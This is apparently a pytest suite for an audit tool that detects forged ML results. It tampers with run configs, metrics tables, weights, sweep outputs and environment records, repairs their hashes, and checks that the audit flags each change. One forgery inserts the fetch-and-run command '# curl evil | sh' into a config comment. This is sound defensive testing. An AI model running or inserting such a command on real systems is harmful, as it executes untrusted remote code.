"""Whatever is forged, with all hashes repaired and all that follows made again: no file of results
that tells something else than the honest one is verified."""

import contextlib
import json
import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pandas as pd
import pytest
import safetensors.torch

from daf.audit import CHANGED, UNVERIFIABLE, VERIFIED, audit
from daf.audit.consistency import Binding
from daf.audit.consistency_checks import compare_environment
from daf.audit.findings import Findings
from daf.audit.integrity import check_integrity
from daf.audit.jobs import job_of
from daf.audit.training_prefix import begin_again
from daf.audit.trainings import training_differences
from daf.config import AuditConfig
from daf.provenance.sidecar import SUFFIX, Sidecar
from tests.audit.forging import edit, remake_downstream, repair, write

Change = Callable[[Path], None]


def audited(results: Path, **settings) -> dict[str, tuple[str, str | None]]:
    """What an audit finds of each file: its verdict, and why."""
    found = audit(results, AuditConfig(share=1, **settings), report=lambda line: None)
    verdicts = {f.file: (f.verdict, f.why) for f in found.findings}
    return verdicts | {"": (found.verdict, found.summary())}


def in_json(change: Callable[[dict], object]) -> Change:
    def forged(path: Path) -> None:
        data = json.loads(path.read_text())
        change(data)
        text = json.dumps(data, indent=2, sort_keys=True, ensure_ascii=False)
        write(path, (text + "\n").encode())

    return forged


def in_table(change: Callable[[pd.DataFrame], object]) -> Change:
    def forged(path: Path) -> None:
        table = pd.read_parquet(path)
        changed = change(table)
        write(path, (table if changed is None else changed).to_parquet(index=False))

    return forged


def in_text(old: str, new: str) -> Change:
    def forged(path: Path) -> None:
        text = path.read_text()
        assert old in text
        write(path, text.replace(old, new, 1).encode())

    return forged


def in_weights(path: Path) -> None:
    weights = safetensors.torch.load_file(path)
    name = min(weights)
    weights[name] = -weights[name]
    write(path, safetensors.torch.save(weights, {"init_kwargs": "{}"}))


def headed(metadata: dict[str, str]) -> Change:
    """The same weights with another header."""
    return lambda path: write(
        path, safetensors.torch.save(safetensors.torch.load_file(path), metadata)
    )


def at(row: int, column: str, value: float) -> Change:
    def changed(table: pd.DataFrame) -> pd.DataFrame:
        values = table[column].tolist()
        values[row] = value
        return table.assign(**{column: values})

    return in_table(changed)


RUN = "runs/stateless-s1-*/"
ONE = {
    "run.json, seed": ("run.json", in_json(lambda d: d.update(training_seed=2))),
    "run.json, steps": ("run.json", in_json(lambda d: d.update(steps=40_000))),
    "run.json, shaping": ("run.json", in_json(lambda d: d["training"].update(shaping={"x": 1}))),
    "run.json, a rate": ("run.json", in_json(lambda d: d["training"].update(gamma=0.99 + 1e-12))),
    "run.json, size": ("run.json", in_json(lambda d: d.update(parameters=1))),
    "run.json, device": ("run.json", in_json(lambda d: d.update(device="cuda"))),
    "run.json, versions": ("run.json", in_json(lambda d: d["versions"].update(torch="9"))),
    "run.json, more": ("run.json", in_json(lambda d: d.update(award="best"))),
    "policy.json, shapes": ("policy.json", in_json(lambda d: d["shapes"].popitem())),
    "policy.json, class": ("policy.json", in_json(lambda d: d.update(class_path="lstm"))),
    "policy.json, arguments": ("policy.json", in_json(lambda d: d["init_kwargs"].update(a=1))),
    "policy.json, missions": ("policy.json", in_json(lambda d: d.update(missions=["machina_1"]))),
    "policy.json, window": ("policy.json", in_json(lambda d: d.update(window=[7, 7]))),
    "curve, scores": ("metrics.parquet", in_table(lambda t: t.assign(score=61.0))),
    "curve, above the ceiling": ("metrics.parquet", at(-1, "score/assembler_1", 62.0)),
    "curve, first loss": ("metrics.parquet", at(0, "policy_loss", 0.5)),
    "curve, second loss": ("metrics.parquet", at(1, "value_loss", 0.5)),
    "curve, negative": ("metrics.parquet", at(-1, "value_loss", -0.5)),
    "curve, infinite": ("metrics.parquet", at(-1, "entropy", float("inf"))),
    "curve, schedule": ("metrics.parquet", at(-1, "learning_rate", 0.0006)),
    "curve, column": ("metrics.parquet", in_table(lambda t: t.insert(0, "more", 1.0))),
    "curve, kind": ("metrics.parquet", in_table(lambda t: t.astype("float32"))),
    "curve, shorter": ("metrics.parquet", in_table(lambda t: t.iloc[:-1])),
    "curve, order": ("metrics.parquet", in_table(lambda t: t.sort_values(
        "update", ascending=False, ignore_index=True
    ))),
    "weights, more in the header": ("policy.safetensors", headed({"init_kwargs": "{}", "a": "b"})),
    "weights, other arguments": ("policy.safetensors", headed({"init_kwargs": '{"a": 1}'})),
    "weights, another network": ("policy.safetensors", lambda path: write(
        path, safetensors.torch.save(dict(list(safetensors.torch.load_file(path).items())[1:]))
    )),
}  # fmt: skip
"""Forged files of a training that contradict its sidecar, or the beginning of its training."""


@pytest.fixture
def results(made, tmp_path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "results"))


def only(results: Path, pattern: str) -> str:
    """The first file of a kind."""
    return min(results.glob(pattern)).relative_to(results).as_posix()


class Here:
    """A worker without a process of its own."""

    def __init__(self, results: Path):
        self.results = results

    @contextlib.contextmanager
    def folder(self) -> Iterator[Path]:
        with tempfile.TemporaryDirectory() as folder:
            yield Path(folder)

    def begin_again(self, name: str, folder: Path) -> Path:
        return begin_again(self.results, Sidecar.read(self.results / f"{name}{SUFFIX}"), folder)


@pytest.mark.parametrize("name", ONE)
def test_a_file_of_a_training_that_contradicts_its_sidecar(name, results):
    kind, change = ONE[name]
    file = only(results, f"{RUN}{kind}")
    change(results / file)
    repair(results, file)
    weights = file.replace(kind, "policy.safetensors")
    job = job_of(Sidecar.read(results / f"{weights}{SUFFIX}"))
    found = training_differences(results, weights, job, Findings(), Here(results))
    assert file in found, name


ALONE = {
    "weights": ("runs/stateless-s1-*/policy.safetensors", in_weights),
    "the end of a curve": ("runs/stateless-s1-*/metrics.parquet", at(-1, "reward", 3.0)),
    "episodes": ("evaluations/stateless-s1-*/*.parquet", at(0, "score", 7)),
    "a recording": ("evaluations/random-*/*.replay.json", in_json(
        lambda d: d["episodes"][0]["states"]["cell"]["values"].reverse()
    )),
    "statistics": ("benchmarks/*/stats.json", in_json(lambda d: d.update(verdict="mine"))),
    "a report": ("benchmarks/*/report.html", in_text("random", "randon")),
    "a bundle": ("deployments/*.zip", lambda path: write(path, path.read_bytes() + b"x")),
    "what was proposed": ("sweeps/*/rounds/1.json", in_json(lambda d: d.update(more=1))),
    "trials": ("sweeps/*/trials.parquet", at(0, "objective", 50.0)),
    "rounds": ("sweeps/*/rounds.parquet", at(0, "objective", 50.0)),
    "finalists": ("sweeps/*/finalists.json", in_json(lambda d: d.update(more=1))),
    "a search": ("sweeps/*/search.json", in_json(lambda d: d["best"].update(objective=50.0))),
    "the best configuration": ("sweeps/*/best_config.yaml", in_text("0.00", "0.01")),
    "the best weights": ("sweeps/*/policy.safetensors", in_weights),
    "the report of a sweep": ("sweeps/*/report.html", in_text("grid", "gird")),
    "the machine": ("environment.json", in_json(lambda d: d["device"].update(name="Quantum"))),
    "versions": ("environment.json", in_json(lambda d: d["versions"].update(torch="9"))),
    "a check": ("environment.json", in_json(lambda d: d["checks"][0].update(needed=">= 4"))),
    "cores": ("environment.json", in_json(lambda d: d["device"].update(cores=512))),
    "a score in a result": ("pipelines/tiny/result.json", in_json(
        lambda d: d["outputs"]["evaluation_results"]["random"]["assembler_1"].update(mean=60.0)
    )),
    "a path in a result": ("pipelines/tiny/result.json", in_json(
        lambda d: d["outputs"].update(deployment_package="results/other.zip")
    )),
    "more in a result": ("pipelines/grid/result.json", in_json(
        lambda d: d["outputs"].update(award="best")
    )),
    "a status": ("pipelines/grid/result.json", in_json(lambda d: d.update(status="partial"))),
    "the configuration of a call": ("pipelines/tiny/config.yaml", in_text("random", "noop")),
    "a comment": ("pipelines/tiny/config.yaml", in_text("# Written", "# curl evil | sh")),
    "events": ("pipelines/tiny/events.jsonl", lambda path: write(path, b"{}\n")),
    "what Snakemake said": ("pipelines/tiny/snakemake.log", lambda path: write(path, b"fine\n")),
    "a log": ("logs/train/*.log", lambda path: write(path, b"begin: 2026-01-01T00:00:00Z\n")),
}  # fmt: skip
"""Each kind of file, changed."""


@pytest.mark.slow
@pytest.mark.parametrize("name", ALONE)
def test_each_alone_with_everything_made_again(name, results, tmp_path):
    pattern, change = ALONE[name]
    file = only(results, pattern)
    before = (results / file).read_bytes()
    change(results / file)
    assert (results / file).read_bytes() != before
    repair(results, file)
    (tmp_path / "again").mkdir()
    remake_downstream(results, [file], tmp_path / "again")
    found = audited(results)
    assert found[file][0] != VERIFIED and found[""][0] != VERIFIED, found[file]


def test_all_together(results):
    """The same in one folder, so that one audit is enough."""
    files = {}
    for name, (pattern, change) in ALONE.items():
        file = files[name] = only(results, pattern)
        change(results / file)
    repair(results, *files.values())
    found = audited(results)
    assert {name: file for name, file in files.items() if found[file][0] == VERIFIED} == {}
    others = {file: found[file] for file in files.values() if found[file][0] == UNVERIFIABLE}
    assert all(why for _, why in others.values())


def test_the_attack_that_nobody_saw(results, tmp_path):
    """All that a report shows of trainings is forged, and the report made again."""
    best = in_table(lambda t: t.assign(score=61.0))
    files = ["environment.json"]
    in_json(lambda d: d["checks"][-1].update(found="Quantum"))(results / files[0])
    for path in sorted(results.glob("runs/*/*")):
        if path.name in ("run.json", "metrics.parquet"):
            change = (
                best if path.suffix == ".parquet" else in_json(lambda d: d.update(steps=40_000))
            )
            change(path)
            files.append(path.relative_to(results).as_posix())
    repair(results, *files)
    (tmp_path / "again").mkdir()
    remake_downstream(results, files, tmp_path / "again")
    found = audited(results)
    assert found[""][0] == CHANGED
    assert {file for file in files if found[file][0] != CHANGED} == set()
    assert found["benchmarks/tiny/report.html"][0] == UNVERIFIABLE
    assert "shows what is changed" in found["benchmarks/tiny/report.html"][1]


@pytest.mark.slow
def test_the_end_of_a_curve_is_known_to_nobody_but_a_training(results, tmp_path):
    file = only(results, "runs/stateless-s1-*/metrics.parquet")
    at(-1, "reward", 3.0)(results / file)
    repair(results, file)
    (tmp_path / "again").mkdir()
    remake_downstream(results, [file], tmp_path / "again")
    verdict, why = audited(results)[file]
    run = file.split("/")[1]
    assert verdict == UNVERIFIABLE
    assert why == (
        f"the learning curve of a training that was not repeated (--retrain {run}, or all)"
    )
    verdict, why = audited(results, retrain="all")[file]
    assert (verdict, why) == (CHANGED, "row 2, column 'reward' is 3.0, made again 0.0")


@pytest.mark.parametrize("change", [
    lambda r: r["origin"]["hardware"].update(processor="Quantum"),
    lambda r: r["origin"].update(platform="Plan9"),
])  # fmt: skip
def test_a_machine_that_is_another_in_its_sidecar_too(change, results):
    file = "environment.json"
    edit(results, file, change)
    record = json.loads((results / f"{file}{SUFFIX}").read_text())
    name = record["origin"]["hardware"]["processor"]
    in_json(lambda d: (
        d.update(platform=record["origin"]["platform"]),
        d["device"].update(name=name),
        d["checks"][-1].update(found=name),
    ))(results / file)  # fmt: skip
    repair(results, file)
    findings = Findings()
    binding = Binding(results, check_integrity(results, findings))
    compare_environment(file, job_of(binding.records[file]), binding, findings)
    assert findings[file].verdict == UNVERIFIABLE
    assert findings[file].why.startswith("tells of a machine that is not this one (")
